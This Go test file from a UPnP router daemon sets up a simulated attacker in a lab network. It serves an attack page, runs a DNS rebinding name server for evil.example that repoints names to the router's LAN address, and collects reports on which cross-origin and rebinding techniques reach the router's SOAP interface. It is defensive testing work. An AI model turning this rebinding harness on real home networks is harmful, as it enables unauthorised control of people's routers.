package browser

import (
	"bytes"
	_ "embed"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"github.com/linux-igd/upnpd/internal/lab"
)

// attacker is the internet host: its web server has the page, and its name
// server says where evil.example is.
type attacker struct {
	t testing.TB
	h *house

	mu      sync.Mutex
	plan    plan
	rebound bool              // rebind.evil.example is the router now
	reports map[string]report // by the technique
	done    chan struct{}     // closed when the page has tried all
	stunned func() bool
}

// plan is what the page is to do.
type plan struct {
	Router, Named string            // "http://192.168.77.1:PORT", and by a name
	Attacker      string            // where to report to
	URLs          map[string]string // the path for each technique
	Envelope      string            // of SOAP, for one mapping; NAME is the technique
	Action        string            // for SOAPAction
}

// report is what a technique brought.
type report struct {
	Status int    // 0: the page cannot see it
	Read   string // text that the page could read
	Fields string // header fields that it could
	Error  string
	Millis int // that it took
}

const webPort = 8000

//go:embed testdata/page.js
var script string

// attack starts the attacker's servers: the page also on port samePort, which
// is the target's, so that rebinding leaves the page's origin as it is.
func (h *house) attack(samePort int) *attacker {
	h.t.Helper()
	a := &attacker{t: h.t, h: h}
	for _, p := range []int{webPort, samePort} {
		ln, err := h.Internet.ListenTCP(fmt.Sprintf("%s:%d", lab.InternetAddr, p))
		if err != nil {
			h.t.Fatal(err)
		}
		s := &http.Server{Handler: a, ErrorLog: log.New(io.Discard, "", 0)}
		s.SetKeepAlivesEnabled(false) // after rebinding a kept connection would lead to the old place
		go s.Serve(ln)
		h.t.Cleanup(func() { s.Close() })
	}
	dns, err := h.Internet.ListenUDP(lab.InternetAddr + ":53")
	if err != nil {
		h.t.Fatal(err)
	}
	h.t.Cleanup(func() { dns.Close() })
	go a.answerNames(dns)
	resolv := h.t.TempDir() + "/resolv.conf"
	writeFile(h.t, resolv, "nameserver "+lab.InternetAddr+"\n")
	h.LAN1.Run(h.t, "mount", "--bind", resolv, "/etc/resolv.conf") // of this host's mounts only
	return a
}

// visit opens a page on LAN host 1, which follows the plan: the function "cross"
// or "rebound". WebRTC goes on until stunned says that it is enough.
func (a *attacker) visit(url, part string, p plan, stunned func() bool) map[string]report {
	a.t.Helper()
	p.Attacker = fmt.Sprintf("http://%s:%d", lab.InternetAddr, webPort)
	a.mu.Lock()
	a.plan, a.rebound, a.stunned, a.reports, a.done = p, false, stunned, map[string]report{}, make(chan struct{})
	done := a.done
	a.mu.Unlock()
	a.h.browse(url+"/"+part, done)
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.reports
}

func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	a.mu.Lock()
	defer a.mu.Unlock()
	w.Header().Set("Access-Control-Allow-Origin", "*") // of the attacker's own
	w.Header().Set("Cache-Control", "no-store")
	what, name, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
	switch what {
	case "cross", "rebound":
		text, _ := json.Marshal(a.plan)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<!DOCTYPE html><meta name=referrer content=no-referrer><body><script>const plan = %s;\n%s\n%s()</script>", text, script, what)
	case "rebind":
		a.rebind()
	case "report":
		var got report
		if err := json.NewDecoder(r.Body).Decode(&got); err != nil {
			a.t.Errorf("report of %s: %v", name, err)
		}
		a.reports[name] = got
	case "stunned":
		if !a.stunned() {
			w.WriteHeader(http.StatusNotFound)
		}
	case "done":
		if a.done != nil {
			close(a.done)
			a.done = nil
		}
	default:
		http.NotFound(w, r)
	}
}

// rebind lets the name be the router, and has the browser forget what the name
// was: it would by itself after a minute.
func (a *attacker) rebind() {
	if a.rebound {
		return
	}
	a.rebound = true
	for _, verb := range []string{"add", "del"} {
		a.h.LAN1.Run(a.t, "ip", "addr", verb, "192.168.77.11/24", "dev", lab.HostDev)
	}
}

// where answers for the attacker's zone.
func (a *attacker) where(name string) string {
	a.mu.Lock()
	defer a.mu.Unlock()
	switch {
	case name == "router.evil.example", name == "rebind.evil.example" && a.rebound:
		return lab.RouterLANAddr
	case strings.HasSuffix(name, ".evil.example"):
		return lab.InternetAddr
	}
	return ""
}

// answerNames is a name server (RFC 1035), with answers that nobody may keep.
func (a *attacker) answerNames(c *net.UDPConn) {
	b := make([]byte, 1500)
	for {
		n, from, err := c.ReadFromUDPAddrPort(b)
		if err != nil {
			return
		}
		if reply := a.resolve(b[:n]); reply != nil {
			c.WriteToUDPAddrPort(reply, from)
		}
	}
}

func (a *attacker) resolve(p []byte) []byte {
	const header = 12
	if len(p) < header {
		return nil
	}
	var labels []string
	at := header
	for at < len(p) && p[at] != 0 && at+1+int(p[at]) < len(p) {
		labels = append(labels, string(p[at+1:at+1+int(p[at])]))
		at += 1 + int(p[at])
	}
	if at+5 > len(p) {
		return nil
	}
	reply := bytes.Clone(p[:at+5])
	copy(reply[2:], []byte{0x84, 0, 0, 1, 0, 0, 0, 0, 0, 0}) // an authoritative answer to one question
	where := a.where(strings.ToLower(strings.Join(labels, ".")))
	switch {
	case where == "":
		reply[3] = 3 // no such name
	case p[at+2] == 1: // A
		reply[7] = 1
		reply = append(reply, 0xc0, header, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4)
		reply = append(reply, netipBytes(where)...)
	}
	return reply
}

func netipBytes(addr string) []byte { return netip.MustParseAddr(addr).AsSlice() }
